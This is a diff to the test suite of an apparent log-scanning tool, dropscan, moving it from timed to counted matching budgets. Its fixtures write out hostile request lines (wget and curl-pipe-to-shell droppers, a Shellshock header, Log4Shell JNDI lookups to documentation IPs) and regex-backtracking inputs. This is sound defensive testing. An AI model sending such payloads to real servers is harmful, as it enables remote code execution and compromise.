@@ -28,7 +28,6 @@ from dropscan import engine, match, sources
 from dropscan.cli import app
 from dropscan.decode import MAX_FIELD
 from dropscan.logformat import compile_format
-from dropscan.match import LINE_BUDGET
 
 COMBINED = compile_format("combined")
 NORMAL = combined_line("/index.html")
@@ -60,9 +59,7 @@ def test_prefilter_is_linear_in_marker_matches(fast_scanner):
     hostile = line(ua=b"\\\\" * 1_000_000)
     few = combined_line("/?q=" + "%2541" * 2000)  # 2000 marker matches: below the slice limit
     chunk = NORMAL * 50 + hostile + NORMAL * 600 + few + NORMAL * 50
-    t0 = time.perf_counter()
-    got = fast_scanner.prefilter(COMBINED).candidates(chunk)
-    assert time.perf_counter() - t0 < 5
+    got = fast_scanner.prefilter(COMBINED).candidates(chunk)  # benchmarks/hostile.py times it
     hostile_at = len(NORMAL) * 50
     few_at = hostile_at + len(hostile) + len(NORMAL) * 600
     # the hostile line (and at most the rest of its slice) is passed; a line with fewer matches
@@ -74,39 +71,42 @@ def test_prefilter_is_linear_in_marker_matches(fast_scanner):
 
 def keyword_soup(sigs, size: int = MAX_FIELD - 64) -> str:
     """Every signature keyword with arguments and a URL, repeated: every pattern is tried on
-    every view, each taking a good share of its timeout."""
+    every view of the field."""
     unit = " ".join(f";{k} -x http://a" for k in sorted(sigs.keyword_index)) + " "
     return (unit * (size // len(unit) + 1))[:size]
 
 
-def test_a_line_has_a_matching_budget(full_scanner, sigs):
-    # three fields of keyword soup used to cost ~10 s (30 s with nested base64 views)
+def test_a_line_has_a_matching_budget_counted_not_timed(full_scanner, sigs):
+    # three fields of keyword soup cost ~8 s of matching; the budget stops it after MATCH_WORK
+    # characters of pattern input, wherever the machine is, and the line says so
     soup = keyword_soup(sigs)
     hostile = combined_line("/?" + soup, ua=soup, referer=soup)
     attack = combined_line("/?c=;wget http://203.0.113.9/a")
-    t0 = time.perf_counter()
     r = full_scanner.scan_chunk(hostile + attack, COMBINED, log_file="x")
-    assert time.perf_counter() - t0 < LINE_BUDGET + 5
-    assert (r.lines, r.records, r.rejected) == (2, 2, 0)
-    assert r.timeouts >= 1  # the spent budget is counted, never silent
-    assert [(f.line_no, f.rule_ids[0]) for f in r.findings][-1] == (2, "dropper.wget")
+    assert (r.lines, r.records, r.rejected, r.unscanned) == (2, 2, 0, 1)
+    first, second = r.findings
+    assert first.line_no == 1 and first.unscanned == ["decode-depth", "match-count", match.MATCH_BUDGET]
+    assert first.rule_ids[-1] == "unscanned.match-budget" and first.category != "unscanned"  # hits found so far
+    assert (second.line_no, second.rule_ids, second.unscanned) == (2, ["dropper.wget", "rce.shell-command"], [])
 
 
-def test_a_spent_budget_counts_one_timeout_and_keeps_going(full_scanner, monkeypatch):
+def test_a_spent_budget_is_a_finding_of_its_own(full_scanner, monkeypatch):
     attack = combined_line("/?c=;wget http://203.0.113.9/a", ua="() { :; }; /bin/sh -c 'curl http://h/x|sh'")
-    monkeypatch.setattr(match, "LINE_BUDGET", 0.0)
-    assert full_scanner.scan_line(attack, COMBINED) == (None, 1)
+    monkeypatch.setattr(match, "MATCH_WORK", 0)
+    finding, cut = full_scanner.scan_line(attack, COMBINED)
+    assert cut and (finding.category, finding.rule_ids, finding.egress) == ("unscanned", ["unscanned.match-budget"], [])
+    assert finding.field == "target" and finding.request.startswith("GET /?c=;wget")  # the line, for a look
     r = full_scanner.scan_chunk(attack * 3, COMBINED, log_file="x")
-    assert (r.lines, r.records, r.timeouts, r.findings) == (3, 3, 3, [])
-    monkeypatch.setattr(match, "LINE_BUDGET", 1.0)
-    finding, timeouts = full_scanner.scan_line(attack, COMBINED)
-    assert timeouts == 0 and set(finding.rule_ids) >= {"dropper.wget", "dropper.curl", "shellshock.command"}
+    assert (r.lines, r.records, r.unscanned) == (3, 3, 3)
+    assert [f.line_no for f in r.findings] == [1, 2, 3]
+    monkeypatch.undo()
+    finding, cut = full_scanner.scan_line(attack, COMBINED)
+    assert not cut and set(finding.rule_ids) >= {"dropper.wget", "dropper.curl", "shellshock.command"}
 
 
 # --- the harness: one scan, four ways ------------------------------------------------------
 WGET = "/cgi-bin/x?c=;wget http://203.0.113.9/a.sh"
 ATTACK = combined_line(WGET)
-CASE_BUDGET = 10.0  # seconds for one whole run of one case (2 cores)
 
 
 @dataclass
@@ -142,11 +142,9 @@ MODES = {
 def scan(runner, tmp_path, paths, *extra: str) -> Run:
     """``dropscan scan PATHS -f jsonl --summary S`` in-process, as a user runs it."""
     summary = tmp_path / f"summary-{time.perf_counter_ns()}.json"
-    t0 = time.perf_counter()
     r = runner.invoke(
         app, ["scan", *map(str, paths), "-f", "jsonl", "--summary", str(summary), *extra], catch_exceptions=False
     )
-    assert time.perf_counter() - t0 < CASE_BUDGET, extra
     s = json.loads(summary.read_text()) if summary.exists() else {"files": [], "errors": []}
     for f in s["files"]:
         assert f["lines"] == f["records"] + f["rejected"], f  # every line accounted for
@@ -162,25 +160,19 @@ def scan4(runner, tmp_path, monkeypatch):
     monkeypatch.setattr(engine, "POOL_MIN_BYTES", 0)
     monkeypatch.setattr(engine, "split_ranges", lambda size, *_: sources.split_ranges(size, 5, min_part=1))
 
-    def run(*paths, extra: tuple[str, ...] = (), volatile: frozenset[int] = frozenset()) -> Run:
-        """``volatile``: lines whose matching budget runs out; where it runs out depends on the
-        machine, so their findings are left out of the comparison."""
+    def run(*paths, extra: tuple[str, ...] = ()) -> Run:
         runs = {name: scan(runner, tmp_path, paths, *flags, *extra) for name, flags in MODES.items()}
-        want = _comparable(runs["inline"], volatile)
+        want = _comparable(runs["inline"])
         for name, other in runs.items():
-            assert _comparable(other, volatile) == want, name
+            assert _comparable(other) == want, name
         return runs["inline"]
 
     return run
 
 
-def _comparable(r: Run, volatile: frozenset[int]) -> tuple:
-    """What every way of scanning must agree on. Regex timeouts are wall-clock (a pattern
-    that needs 30 ms of CPU can overrun its 100 ms on two cores shared by four processes), so
-    their counts are compared by the tests that expect them, not here."""
-    drop = {"regex_timeouts", "findings"} if volatile else {"regex_timeouts"}
-    files = [{k: v for k, v in f.items() if k not in drop} for f in r.files]
-    return r.code, [f for f in r.findings if f["line_no"] not in volatile], files, r.errors
+def _comparable(r: Run) -> tuple:
+    """What every way of scanning must agree on: everything (no count depends on time)."""
+    return r.code, r.findings, r.files, r.errors
 
 
 def write(path, data: bytes):
@@ -315,16 +307,31 @@ def test_a_percent_25_chain_200k_long(scan4, tmp_path):
     wide = combined_line("/?q=" + "%25" * 200_000 + "3Bwget%20http://198.51.100.7/x")  # 200k layers side by side
     deep = combined_line("/?q=%" + "25" * 200_000 + "3B")  # one escape nested 200k deep: 8 rounds undone
     r = scan4(write(tmp_path / "access.log", wide + deep + ATTACK))
-    assert (r.code, r.counts("access.log")) == (1, (3, 3, 0))
-    assert r.hits == [("access.log", 3, "dropper.wget")]
+    assert (r.code, r.counts("access.log"), r.files[0]["unscanned"]) == (1, (3, 3, 0), 2)
+    # both are longer than MAX_FIELD: cut, and said so
+    assert r.hits == [
+        ("access.log", 1, "unscanned.field-cut"),
+        ("access.log", 2, "unscanned.field-cut"),
+        ("access.log", 3, "dropper.wget"),
+    ]
+    shallow = combined_line("/?q=%" + "25" * 9 + "3B")  # nine layers: one more than MAX_ROUNDS undoes
+    r = scan4(write(tmp_path / "access.log", shallow))
+    assert [(f["category"], f["rule_ids"]) for f in r.findings] == [("unscanned", ["unscanned.decode-depth"])]
 
 
 def test_lookups_nested_50k_deep(scan4, tmp_path):
     nested = "${" * 50_000 + "jndi:ldap://198.51.100.9:1389/a" + "}" * 50_000
     unclosed = "${" * 50_000 + "lower:j}"
     r = scan4(write(tmp_path / "access.log", combined_line("/", ua=nested) + combined_line(unclosed) + ATTACK))
-    assert (r.code, r.counts("access.log")) == (1, (3, 3, 0))
-    assert r.hits == [("access.log", 1, "jndi.log4shell"), ("access.log", 3, "dropper.wget")]
+    assert (r.code, r.counts("access.log"), r.files[0]["unscanned"]) == (1, (3, 3, 0), 2)
+    # lookups deeper than MAX_LOOKUP_DEPTH stay literal: the jndi inside is still found, and the
+    # depth bound is said on both lines
+    assert r.hits == [
+        ("access.log", 1, "jndi.log4shell"),
+        ("access.log", 2, "unscanned.decode-depth"),
+        ("access.log", 3, "dropper.wget"),
+    ]
+    assert r.findings[0]["rule_ids"][-1] == "unscanned.decode-depth"
     assert [(d["host"], d["port"]) for d in r.findings[0]["egress"]] == [("198.51.100.9", 1389)]
 
 
@@ -335,26 +342,24 @@ def test_inputs_built_to_make_signatures_backtrack(scan4, tmp_path):
         combined_line("/?c=;wget http://" + "a." * 120_000),  # a hostname that never ends
         combined_line("/", ua="<?php " * 40_000),  # a lazy .{0,400} from each of 40k starts: ~1.5 s
     ]
-    # lines 2 and 4 run patterns past their timeout: whether one of them still matches in time
-    # depends on the machine, so they are left out of the comparison; the others are exact
-    volatile = frozenset({2, 4})
-    r = scan4(write(tmp_path / "access.log", b"".join(built) + ATTACK), volatile=volatile)
+    # no clock: every line's result is exact, the same in all four ways of scanning
+    r = scan4(write(tmp_path / "access.log", b"".join(built) + ATTACK))
     assert (r.code, r.counts("access.log")) == (1, (5, 5, 0))
-    hits = [h for h in r.hits if h[1] not in volatile]
-    assert hits == [
+    assert r.hits == [
         ("access.log", 1, "rce.shell-command"),
         ("access.log", 3, "dropper.wget"),
         ("access.log", 5, "dropper.wget"),
     ]
     assert [f["egress"] for f in r.findings if f["line_no"] == 3] == [[]]  # no host that long
-    assert r.files[0]["regex_timeouts"] >= 1  # counted, never silent
+    assert r.files[0]["unscanned"] == 0  # no bound reached
 
 
 def test_a_line_that_spends_its_budget(scan4, tmp_path, sigs):
     soup = keyword_soup(sigs)
-    r = scan4(write(tmp_path / "access.log", combined_line("/?" + soup, ua=soup) + ATTACK), volatile=frozenset({1}))
+    r = scan4(write(tmp_path / "access.log", combined_line("/?" + soup, ua=soup) + ATTACK))
     assert (r.code, r.counts("access.log"), r.hits[-1]) == (1, (2, 2, 0), ("access.log", 2, "dropper.wget"))
-    assert r.files[0]["regex_timeouts"] >= 1
+    assert r.files[0]["unscanned"] == 1 and "unscanned.match-budget" in r.findings[0]["rule_ids"]
+    assert "access.log:1: not scanned to the end (decode-depth, match-count, match-budget)" in r.stderr
 
 
 def test_extremely_long_fields(scan4, tmp_path):
@@ -362,13 +367,26 @@ def test_extremely_long_fields(scan4, tmp_path):
     lines = [
         combined_line("/", referer=pad, ua="() { :; }; /bin/sh -c 'wget http://198.51.100.7/s'"),
         combined_line("/?c=;wget http://198.51.100.8/x&pad=" + pad),  # the attack inside the first 256 KiB
-        combined_line("/?pad=" + pad + "&c=;wget http://198.51.100.9/x"),  # after it: not seen (a limit)
+        combined_line("/?pad=" + pad + "&c=;wget http://198.51.100.9/x"),  # after it: not seen, but said
         ATTACK,
     ]
     r = scan4(write(tmp_path / "access.log", b"".join(lines)))
-    assert (r.code, r.counts("access.log")) == (1, (4, 4, 0))
-    assert [h[1] for h in r.hits] == [1, 2, 4]
-    assert [f["egress"][0]["host"] for f in r.findings] == ["198.51.100.7", "198.51.100.8", "203.0.113.9"]
+    assert (r.code, r.counts("access.log"), r.files[0]["unscanned"]) == (1, (4, 4, 0), 3)
+    assert [(h[1], h[2]) for h in r.hits] == [
+        (1, "dropper.wget"),
+        (2, "dropper.wget"),
+        (3, "unscanned.field-cut"),
+        (4, "dropper.wget"),
+    ]
+    assert [f["category"] for f in r.findings] == ["dropper", "dropper", "unscanned", "dropper"]
+    assert [f["rule_ids"][-1] for f in r.findings[:3]] == ["unscanned.field-cut"] * 3
+    assert [[d["host"] for d in f["egress"]] for f in r.findings] == [
+        ["198.51.100.7"],
+        ["198.51.100.8"],
+        [],
+        ["203.0.113.9"],
+    ]
+    assert r.stderr.count("not scanned to the end (field-cut)") == 3
 
 
 def test_a_line_longer_than_max_line_is_cut_not_lost(scan4, tmp_path, monkeypatch):
@@ -490,3 +508,29 @@ def test_a_hostile_directory_through_the_console_entry(tmp_path):
     ]
     hits = [(os.path.basename(x["log_file"]), x["line_no"]) for x in map(json.loads, p.stdout.splitlines())]
     assert hits == [("access.log.3.gz", 1), ("access.log.1", 2), ("access.log", 2)]
+
+
+# --- a bound reached is said everywhere a finding goes --------------------------------------
+def test_unscanned_lines_in_explain_frames_and_on_stderr(tmp_path, runner, full_scanner):
+    from dropscan.explain import explain_line, explain_text
+    from dropscan.frames import to_frame
+
+    cut = line(target=b"/?pad=" + b"x" * MAX_FIELD + b"&c=;wget%20http://198.51.100.9/x")
+    e = explain_line(cut, full_scanner, COMBINED)
+    assert e["unscanned"] == ["field-cut"] and e["finding"]["category"] == "unscanned"
+    assert "unscanned: a bound stopped this line short (field-cut)" in explain_text(e)
+    finding, _ = full_scanner.scan_line(cut, COMBINED)
+    df = to_frame([finding, full_scanner.scan_line(ATTACK, COMBINED)[0]], full_scanner.sigs)
+    assert list(df["rule_id"]) == ["unscanned.field-cut", "dropper.wget"]  # a category, not NaN
+    assert list(df["category"]) == ["unscanned", "dropper"]
+    # 25 such lines: the first 20 named on stderr, then one line; the summary counts all 25
+    log = write(tmp_path / "access.log", cut * 25)
+    summary = tmp_path / "s.json"
+    r = runner.invoke(app, ["scan", str(log), "-f", "jsonl", "--summary", str(summary)])
+    assert r.exit_code == 1 and len(r.stdout.splitlines()) == 25
+    named = [ln for ln in r.stderr.splitlines() if "not scanned to the end (field-cut)" in ln]
+    assert len(named) == 20 and named[0].endswith(
+        f"{log}:1: not scanned to the end (field-cut): an 'unscanned' finding"
+    )
+    assert r.stderr.count("more lines were not scanned to the end") == 1
+    assert json.loads(summary.read_text())["totals"]["unscanned"] == 25
